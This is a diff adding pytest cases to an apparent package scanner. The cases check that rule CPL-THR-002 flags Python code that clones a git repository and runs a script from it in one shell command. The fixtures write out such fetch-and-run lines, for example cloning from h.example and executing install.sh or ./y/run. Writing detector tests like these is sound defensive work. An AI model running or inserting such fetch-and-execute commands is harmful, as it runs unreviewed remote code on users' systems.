@@ -87,3 +87,35 @@ def test_a_program_started_from_a_clone_is_a_downloaded_stage(
 )
 def test_a_clone_that_is_only_read_or_local_is_no_stage(source: str) -> None:
     assert "CPL-THR-002" not in danger(source)
+
+
+#: The clone and the run in one command line (a shell string, a shell's script).
+ONE_COMMAND = [
+    'import os\nos.system("git clone -q https://github.com/someone/b /tmp/b && "'
+    ' "python /tmp/b/main.py")\n',
+    "import subprocess\n"
+    'subprocess.call(["sh", "-c", "cd /tmp; git clone https://h.example/r.git; '
+    'cd r && sh install.sh"])\n',
+    'import subprocess\nsubprocess.run("git clone git@h.example:x/y.git y; ./y/run", shell=True)\n',
+]
+
+
+@pytest.mark.parametrize("source", ONE_COMMAND)
+def test_a_clone_and_a_run_in_one_command_line_are_a_downloaded_stage(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-002" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # clone, then read or list it; a run that is not from it
+        'import os\nos.system("git clone https://github.com/org/theme _t && ls _t/static")\n',
+        'import os\nos.system("git clone https://github.com/org/d d && python -m pytest tests")\n',
+        'import os\nos.system("git clone /srv/repos/fixture w && python w/make.py")\n',
+    ],
+)
+def test_a_clone_in_a_command_line_that_runs_nothing_from_it_is_no_stage(source: str) -> None:
+    assert "CPL-THR-002" not in danger(source)
